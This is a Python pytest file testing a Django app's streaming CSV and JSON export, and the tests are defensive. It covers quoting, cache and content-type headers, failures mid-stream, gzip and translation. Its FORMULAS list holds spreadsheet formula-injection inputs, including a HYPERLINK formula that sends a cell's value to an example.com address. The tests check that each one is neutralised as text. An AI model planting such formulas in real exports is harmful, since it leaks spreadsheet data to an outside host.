"""Files that are streamed: quoted right, harmless in a spreadsheet, never too much in memory, never silently cut."""

import csv
import json
from collections.abc import Iterator
from io import StringIO
from random import Random

import pytest
from django.http import StreamingHttpResponse
from django.middleware.gzip import GZipMiddleware
from django.test import RequestFactory
from django.utils import translation
from django.utils.translation import gettext

from apps.common.export import ROWS_A_CHUNK, Cell, csv_file, json_file

HEADER = ("what", "credits")
FORMULAS = [
    '=HYPERLINK("https://example.com?"&A1,"Luna")',
    "=1+1",
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "-10",
]
TEXTS = [
    "Luna",
    "a,b",
    'say "hi"',
    "two\nlines",
    "two\r\nlines",
    "1-2=3",
    "Zoë ✨ 露娜",
    "'quoted'",
    " =1+1",
    "",
    ";|\\",
]


def pieces_of(response: StreamingHttpResponse) -> Iterator[bytes]:
    content = response.streaming_content
    assert isinstance(content, Iterator)
    return content


def body(response: StreamingHttpResponse) -> bytes:
    return b"".join(pieces_of(response))


def read(rows: list[tuple[Cell, ...]]) -> list[list[str]]:
    """The rows as a spreadsheet reads them, without the header."""
    return list(csv.reader(StringIO(body(csv_file(rows, header=HEADER, name="x")).decode(), newline="")))[1:]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_would_run_as_a_formula_is_shown_as_text(formula: str) -> None:
    assert read([(formula, -10)]) == [[f"'{formula}", "-10"]]


@pytest.mark.parametrize("text", TEXTS)
def test_every_other_text_comes_back_as_it_was(text: str) -> None:
    assert read([(text, 1)]) == [[text, "1"]]


@pytest.mark.parametrize("number", [-10, 0, 300, -(2**63)])
def test_numbers_stay_numbers_with_their_sign(number: int) -> None:
    assert body(csv_file([("a", number)], header=HEADER, name="x")) == f"what,credits\r\na,{number}\r\n".encode()


def test_what_is_not_there_is_an_empty_cell() -> None:
    assert read([(None, None)]) == [["", ""]]


def test_a_huge_cell_comes_through_whole() -> None:
    name = 'L"u,na\n' * 15_000
    assert read([(name, 1)]) == [[name, "1"]]


def test_without_rows_there_is_still_the_header_and_the_array() -> None:
    assert body(csv_file([], header=HEADER, name="x")) == b"what,credits\r\n"
    assert json.loads(body(json_file([], name="x"))) == []


@pytest.mark.parametrize("size", [1, ROWS_A_CHUNK - 1, ROWS_A_CHUNK, ROWS_A_CHUNK + 1, 3 * ROWS_A_CHUNK])
def test_the_array_holds_every_object_once_and_in_order(size: int) -> None:
    objects = [{"n": number, "text": 'Zoë "露娜"\n</script>'} for number in range(size)]

    assert json.loads(body(json_file(iter(objects), name="x"))) == objects


def test_a_download_is_kept_by_nobody_else_and_never_taken_for_a_page() -> None:
    csv_answer, json_answer = csv_file([], header=HEADER, name="activity"), json_file([], name="activity")

    assert csv_answer["Content-Disposition"] == 'attachment; filename="activity.csv"'
    assert csv_answer["Content-Type"] == "text/csv; charset=utf-8"
    assert json_answer["Content-Disposition"] == 'attachment; filename="activity.json"'
    assert json_answer["Content-Type"] == "application/json"
    for answer in (csv_answer, json_answer):
        assert answer["Cache-Control"] == "private, no-store"
        assert answer["X-Content-Type-Options"] == "nosniff"


def breaking_after(rows: int) -> Iterator[tuple[str, int]]:
    yield from ((str(number), number) for number in range(rows))
    raise ConnectionError("the database went away")


def test_what_fails_before_the_first_byte_is_an_ordinary_error() -> None:
    with pytest.raises(ConnectionError):
        csv_file(breaking_after(10), header=HEADER, name="x")


def test_what_fails_later_breaks_off_and_is_logged(caplog: pytest.LogCaptureFixture) -> None:
    response = csv_file(breaking_after(3 * ROWS_A_CHUNK), header=HEADER, name="x")

    with pytest.raises(ConnectionError):
        body(response)
    assert "export_broke_off" in caplog.text


def test_a_broken_array_has_no_end() -> None:
    objects = ({"n": number} for _text, number in breaking_after(2 * ROWS_A_CHUNK))
    sent: list[bytes] = []

    with pytest.raises(ConnectionError):
        sent.extend(pieces_of(json_file(objects, name="x")))
    assert b"]" not in b"".join(sent)


def test_whoever_stops_reading_is_no_failure(caplog: pytest.LogCaptureFixture) -> None:
    response = csv_file(breaking_after(9 * ROWS_A_CHUNK), header=HEADER, name="x")
    next(pieces_of(response))
    del response

    assert not caplog.records


def test_compression_sends_what_it_has_while_rows_are_still_made() -> None:
    made: list[int] = []
    chance = Random(1)

    def rows() -> Iterator[tuple[str, int]]:
        for number in range(100 * ROWS_A_CHUNK):
            made.append(number)
            yield f"{chance.getrandbits(400):x}", number

    request = RequestFactory().get("/", headers={"Accept-Encoding": "gzip"})
    response = GZipMiddleware(lambda _: csv_file(rows(), header=HEADER, name="x"))(request)
    assert isinstance(response, StreamingHttpResponse)
    pieces, received = pieces_of(response), 0
    while received < 20_000:
        received += len(next(pieces))

    assert response["Content-Encoding"] == "gzip"
    assert len(made) <= 10 * ROWS_A_CHUNK


def test_rows_are_worded_in_the_language_of_the_request() -> None:
    with translation.override("de"):
        response = csv_file(
            ((gettext("Monday"), number) for number in range(2 * ROWS_A_CHUNK)), header=HEADER, name="x"
        )
    with translation.override("en"):
        text = body(response).decode()

    assert text.count("Montag") == 2 * ROWS_A_CHUNK
